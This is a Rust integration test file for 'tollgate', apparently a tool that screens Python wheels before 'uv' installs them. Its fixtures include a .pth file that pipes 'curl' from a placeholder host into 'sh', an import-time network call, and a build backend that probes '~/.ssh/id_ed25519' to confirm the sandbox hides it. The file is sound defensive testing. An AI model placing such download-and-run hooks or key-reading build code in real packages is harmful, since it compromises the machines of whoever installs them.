//! `tollgate install uv` as a gate, offline: a loopback PEP 691 simple index (with
//! SHA-256 hashes, which uv records in uv.lock) serving a wheel the test writes itself. A
//! wheel whose `.pth` file downloads and runs a script (from a host under
//! `.example.invalid`, never contacted) is refused before uv fetches anything: the
//! project's pyproject.toml is byte for byte as before, no uv.lock and no `.venv` are
//! left. The clean wheel is judged, fetched with `uv sync --frozen` and installed into
//! `.venv`. A wheel whose module calls out to the network when imported is suspicious:
//! refused without an allow, installed with `--allow`. The execute phase is run for real:
//! `uv sync --offline --frozen` builds the project with an in-tree build backend in the
//! sandbox, which hides `~/.ssh` from it. A verdict kept in the cache (same bytes, same
//! tollgate build) refuses on the next run just as the fresh analysis did. Skipped (with a printed reason) when uv, or python3, is not installed.

mod common;

use std::path::{Path, PathBuf};

use predicates::prelude::PredicateBooleanExt;
use predicates::str::contains;
use tempfile::TempDir;

const NAME: &str = "harmless-gate-fixture";

const PYPROJECT: &str = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.8\"\ndependencies = []\n";

/// The directory of the real `uv` binary: next to the real interpreter (pip's `uv`
/// package), else the first on PATH (a pyenv shim there would not run in the sandbox).
fn uv_dir(python_bin: &Path) -> Option<PathBuf> {
    if python_bin.join("uv").is_file() {
        return Some(python_bin.to_path_buf());
    }
    common::available("uv").then(|| common::program_dirs("uv").into_iter().next())?
}

struct Setup {
    work: TempDir,
    project: PathBuf,
    path: String,
}

/// A scratch project; `None`, with the reason printed, when the test cannot run here.
fn setup() -> Option<Setup> {
    scratch_project()
        .map_err(|why| println!("skipped: {why}"))
        .ok()
}

fn scratch_project() -> Result<Setup, &'static str> {
    let python = common::python().ok_or("python3 is not installed")?;
    let python_bin = python.parent().ok_or("python3 has no directory")?;
    let uv = uv_dir(python_bin).ok_or("uv is not installed")?;
    let work = TempDir::new().unwrap();
    let project = work.path().join("project");
    std::fs::create_dir(&project).unwrap();
    common::write(&project, "pyproject.toml", PYPROJECT);
    let path = format!("{}:{}:/usr/bin:/bin", uv.display(), python_bin.display());
    Ok(Setup {
        work,
        project,
        path,
    })
}

/// `tollgate install [FLAGS] uv -- NAME==1.0`.
fn install(setup: &Setup, index: &str, flags: &[&str]) -> assert_cmd::assert::Assert {
    install_args(setup, index, flags, &[&format!("{NAME}==1.0")])
}

fn install_args(
    setup: &Setup,
    index: &str,
    flags: &[&str],
    args: &[&str],
) -> assert_cmd::assert::Assert {
    common::tollgate()
        .current_dir(&setup.project)
        .env("HOME", setup.work.path())
        .env("XDG_CACHE_HOME", setup.work.path().join("cache"))
        .env("PATH", &setup.path)
        .env("UV_DEFAULT_INDEX", format!("{index}/simple/"))
        .env("UV_PYTHON_DOWNLOADS", "never")
        .env_remove("UV_INDEX_URL")
        .env_remove("UV_CACHE_DIR")
        .env_remove("VIRTUAL_ENV")
        .args(["install", "--allow-missing-db"])
        .args(flags)
        .args(["uv", "--"])
        .args(args)
        .timeout(std::time::Duration::from_secs(180))
        .assert()
}

/// Whether the fixture's module is in the project's `.venv`.
fn installed(project: &Path) -> bool {
    common::venv_has(&project.join(".venv"), "harmless_gate_fixture")
}

#[test]
fn wheel_whose_pth_downloads_and_runs_code_is_refused_before_uv_fetches() {
    let Some(setup) = setup() else { return };
    let pth = "import os; os.system(\"curl https://payload.example.invalid/x | sh\")\n";
    let index = common::simple_index(
        NAME,
        vec![(
            common::wheel_name(NAME),
            common::wheel(NAME, &[("harmless_gate_fixture.pth", pth)]),
        )],
    );
    install(&setup, &index, &[])
        .code(1)
        .stderr(contains(
            "refused: the install-time code of harmless-gate-fixture is judged malicious",
        ))
        .stderr(contains("harmless_gate_fixture.pth:1"))
        .stderr(contains("download-run"))
        .stderr(contains("uv sync").not());
    assert_eq!(
        std::fs::read_to_string(setup.project.join("pyproject.toml")).unwrap(),
        PYPROJECT,
        "pyproject.toml is restored byte for byte"
    );
    assert!(
        !setup.project.join("uv.lock").exists(),
        "no uv.lock is left"
    );
    assert!(!setup.project.join(".venv").exists(), "no .venv is made");
}

#[test]
fn a_verdict_kept_in_the_cache_refuses_again_and_can_be_bypassed() {
    let Some(setup) = setup() else { return };
    let pth = "import os; os.system(\"curl https://payload.example.invalid/x | sh\")\n";
    let index = common::simple_index(
        NAME,
        vec![(
            common::wheel_name(NAME),
            common::wheel(NAME, &[("harmless_gate_fixture.pth", pth)]),
        )],
    );
    let refused = "harmless-gate-fixture is judged malicious";
    let reused = "judged from the verdict cache";
    install(&setup, &index, &[])
        .code(1)
        .stderr(contains(refused))
        .stderr(contains(reused).not());
    // The second run finds the same bytes in the cache: the kept report refuses, with the
    // same evidence, and says it was reused.
    install(&setup, &index, &[])
        .code(1)
        .stderr(contains(refused))
        .stderr(contains("harmless_gate_fixture.pth:1"))
        .stderr(contains(reused));
    install(&setup, &index, &["--no-verdict-cache"])
        .code(1)
        .stderr(contains(refused))
        .stderr(contains(reused).not());
    assert!(!setup.project.join(".venv").exists(), "no .venv is made");
}

#[test]
fn clean_wheel_is_judged_then_installed() {
    let Some(setup) = setup() else { return };
    let index = common::simple_index(
        NAME,
        vec![(common::wheel_name(NAME), common::wheel(NAME, &[]))],
    );
    install(&setup, &index, &[])
        .success()
        .stderr(contains("judging the code of 1 artifact(s) uv may install"))
        .stderr(contains("uv sync --frozen"));
    assert!(installed(&setup.project), "the wheel is in .venv");
    let lock = std::fs::read_to_string(setup.project.join("uv.lock")).unwrap();
    assert!(lock.contains("sha256:"), "{lock}");
}

#[test]
fn suspicious_wheel_needs_an_allow() {
    let Some(setup) = setup() else { return };
    let init = "import urllib.request\nurllib.request.urlopen('https://x.example.invalid/ping')\n";
    let index = common::simple_index(
        NAME,
        vec![(
            common::wheel_name(NAME),
            common::wheel(NAME, &[("harmless_gate_fixture/__init__.py", init)]),
        )],
    );
    install(&setup, &index, &[])
        .code(1)
        .stderr(contains("harmless-gate-fixture is judged suspicious"))
        .stderr(contains("harmless_gate_fixture/__init__.py:2"));
    assert!(!setup.project.join(".venv").exists(), "no .venv is made");
    install(&setup, &index, &["--allow", "Harmless_Gate.Fixture"])
        .success()
        .stderr(contains("judged suspicious; allowed by --allow"));
    assert!(installed(&setup.project), "the allowed wheel is in .venv");
}

/// An in-tree PEP 517 backend that needs no download: it builds a wheel whose module
/// records whether the build could read `~/.ssh/id_ed25519`.
const BACKEND: &str = r#"import os, zipfile

INFO = "app-0.1.0.dist-info"
METADATA = "Metadata-Version: 2.1\nName: app\nVersion: 0.1.0\n"


def get_requires_for_build_wheel(config_settings=None):
    return []


get_requires_for_build_editable = get_requires_for_build_wheel


def prepare_metadata_for_build_wheel(directory, config_settings=None):
    os.makedirs(os.path.join(directory, INFO), exist_ok=True)
    with open(os.path.join(directory, INFO, "METADATA"), "w") as f:
        f.write(METADATA)
    return INFO


prepare_metadata_for_build_editable = prepare_metadata_for_build_wheel


def build_wheel(directory, config_settings=None, metadata_directory=None):
    try:
        with open(os.path.expanduser("~/.ssh/id_ed25519")) as f:
            readable = bool(f.read())
    except OSError:
        readable = False
    name = "app-0.1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        wheel.writestr("app/__init__.py", f"SECRET_READABLE = {readable}\n")
        wheel.writestr(INFO + "/METADATA", METADATA)
        wheel.writestr(INFO + "/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(INFO + "/RECORD", "")
    return name


build_editable = build_wheel
"#;

/// uv's execute phase for real: `uv sync --offline --frozen` builds the project with its
/// build backend inside the sandbox (network off, `$HOME` hidden) and installs it.
#[test]
fn the_execute_phase_builds_in_the_sandbox() {
    let Some(setup) = setup() else { return };
    common::write(
        &setup.project,
        "pyproject.toml",
        &format!(
            "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n\n{PYPROJECT}"
        ),
    );
    common::write(&setup.project, "backend.py", BACKEND);
    common::write(setup.work.path(), ".ssh/id_ed25519", "not a real key\n");
    let index = common::simple_index(NAME, Vec::new());
    let output = install_args(&setup, &index, &[], &[])
        .stderr(contains(
            "execute (sandbox, network off): uv sync --offline --frozen",
        ))
        .get_output()
        .clone();
    let stderr = String::from_utf8_lossy(&output.stderr);
    let built = std::fs::read_dir(setup.project.join(".venv/lib"))
        .unwrap()
        .flatten()
        .map(|python| python.path().join("site-packages/app/__init__.py"))
        .find(|module| module.exists())
        .unwrap_or_else(|| panic!("the project is built and installed: {stderr}"));
    assert_eq!(
        std::fs::read_to_string(built).unwrap(),
        "SECRET_READABLE = False\n",
        "the build ran in the sandbox, which hides ~/.ssh: {stderr}"
    );
}
